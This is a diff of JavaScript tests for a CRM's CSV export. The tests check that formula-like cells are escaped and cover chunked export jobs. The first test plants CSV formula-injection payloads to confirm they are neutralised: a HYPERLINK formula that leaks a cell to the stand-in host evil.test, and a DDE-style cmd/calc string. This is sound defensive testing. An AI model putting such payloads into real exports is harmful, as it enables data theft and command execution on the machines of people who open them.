@@ -105,4 +105,81 @@ describe('CSV export', () => {
     expect(parse(bd.body.slice(1)).length).toBe(1);
     expect((await env.app.inject({ method: 'GET', url: '/api/v1/deals/export.csv?status=nope', headers: a.auth })).statusCode).toBe(400);
   });
+  it('neutralises formula cells in people and companies exports and in an import errors.csv', async () => {
+    const f = await env.workspace('exp-formula');
+    const evil = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
+    const co = await post(f.auth, '/api/v1/companies', { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', city: '+7 (912) кабинет' });
+    await post(f.auth, '/api/v1/people', { firstName: evil, lastName: '-2+3+cmd', companyId: co.id, position: '+1-2', phones: ['+79123456780'] });
+    const people = await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: f.auth });
+    const prow: string[][] = parse(people.body.slice(1));
+    const p = (name: string) => prow[1][prow[0].indexOf(name)];
+    expect([p('firstName'), p('lastName'), p('company'), p('position')]).toEqual([`'${evil}`, "'-2+3+cmd", `'@SUM(1+1)*cmd|' /C calc'!A0`, "'+1-2"]);
+    // A plain signed number (an E.164 phone) is a number to a spreadsheet, not a formula: left as is.
+    expect(p('phone')).toBe('+79123456780');
+    const companies = await env.app.inject({ method: 'GET', url: '/api/v1/companies/export.csv', headers: f.auth });
+    const crow: string[][] = parse(companies.body.slice(1));
+    expect(crow[1][crow[0].indexOf('name')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(crow[1][crow[0].indexOf('city')]).toBe("'+7 (912) кабинет");
+
+    // An import's errors file hands back the rows as they were, neutralised too.
+    const file = Buffer.from(`firstName,email\n"${evil.replace(/"/g, '""')}",not-an-email\n`);
+    const m = multipart({ entity: 'people' }, { name: 'bad.csv', content: file });
+    const up = await env.app.inject({ method: 'POST', url: '/api/v1/imports', headers: { ...f.auth, ...m.headers }, payload: m.payload });
+    expect(up.statusCode, up.body).toBe(201);
+    expect((await env.app.inject({ method: 'POST', url: `/api/v1/imports/${up.json().id}/start`, headers: f.auth, payload: { mapping: { firstName: 'firstName', email: 'email' }, upsertBy: null } })).statusCode).toBe(202);
+    await eventually(async () => (await env.app.inject({ method: 'GET', url: `/api/v1/imports/${up.json().id}`, headers: f.auth })).json().status === 'done');
+    const errors = await env.app.inject({ method: 'GET', url: `/api/v1/imports/${up.json().id}/errors.csv`, headers: f.auth });
+    expect(errors.statusCode, errors.body).toBe(200);
+    const erow: string[][] = parse(errors.body.slice(1), { relax_column_count: true });
+    expect(erow[0]).toEqual(['firstName', 'email', 'error']);
+    expect(erow[1][0]).toBe(`'${evil}`);
+    expect(erow[1][1]).toBe('not-an-email');
+  });
+
+  it('exports as a job: chunks to a file, progress, a download link; the GET answers 202 to Prefer: respond-async when large', async () => {
+    const j = await env.workspace('exp-job');
+    for (let i = 0; i < 7; i++) await post(j.auth, '/api/v1/people', { firstName: i === 3 ? '=1+1' : `Job${i}`, lastName: 'Export', city: 'Омск' });
+    await post(j.auth, '/api/v1/people', { firstName: 'Not', lastName: 'Included', city: 'Тверь' });
+    const exp = env.kernel.crm.exports;
+    exp.jobPageSize = 3; // several chunks
+    try {
+      const started = await env.app.inject({ method: 'POST', url: `/api/v1/people/export?city=${encodeURIComponent('Омск')}&sort=firstName`, headers: j.auth });
+      expect(started.statusCode, started.body).toBe(202);
+      const { jobId, statusUrl, downloadUrl } = started.json();
+      expect(downloadUrl).toBe(`/api/v1/exports/${jobId}/download`);
+      const job = await eventually(async () => {
+        const s = (await env.app.inject({ method: 'GET', url: statusUrl, headers: j.auth })).json();
+        if (s.state === 'failed' || s.state === 'dead') throw new Error(JSON.stringify(s));
+        return s.state === 'completed' ? s : null;
+      });
+      expect(job.output).toMatchObject({ rows: 7, fileName: expect.stringMatching(/^people-\d{4}-\d{2}-\d{2}\.csv$/) });
+      expect(job.progress).toBe(1);
+      const file = await env.app.inject({ method: 'GET', url: downloadUrl, headers: j.auth });
+      expect(file.statusCode, file.body).toBe(200);
+      expect(file.headers['content-disposition']).toMatch(/attachment; filename="people-/);
+      const rows: string[][] = parse(file.body.slice(1));
+      expect(rows.length).toBe(8);
+      const sync = parse((await env.app.inject({ method: 'GET', url: `/api/v1/people/export.csv?city=${encodeURIComponent('Омск')}&sort=firstName`, headers: j.auth })).body.slice(1));
+      expect(rows).toEqual(sync);
+      expect(rows.map((r) => r[1])).toContain("'=1+1");
+      // Another workspace cannot fetch it; a bad filter is a 400 before any job.
+      expect((await env.app.inject({ method: 'GET', url: downloadUrl, headers: a.auth })).statusCode).toBe(404);
+      expect((await env.app.inject({ method: 'POST', url: '/api/v1/people/export?createdFrom=yesterday', headers: j.auth })).statusCode).toBe(400);
+
+      // GET export.csv: a stream for every client, unless it prefers a job and the workspace is over the sync limit.
+      exp.syncMaxRows = 5;
+      const plain = await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: j.auth });
+      expect(plain.statusCode).toBe(200);
+      expect(parse(plain.body.slice(1)).length).toBe(9);
+      const preferred = await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: { ...j.auth, prefer: 'respond-async' } });
+      expect(preferred.statusCode, preferred.body).toBe(202);
+      expect(preferred.headers['preference-applied']).toBe('respond-async');
+      expect(preferred.json().jobId).toBeTruthy();
+      exp.syncMaxRows = 100;
+      expect((await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: { ...j.auth, prefer: 'respond-async' } })).statusCode).toBe(200);
+    } finally {
+      exp.jobPageSize = 2000;
+      exp.syncMaxRows = 10_000;
+    }
+  });
 });
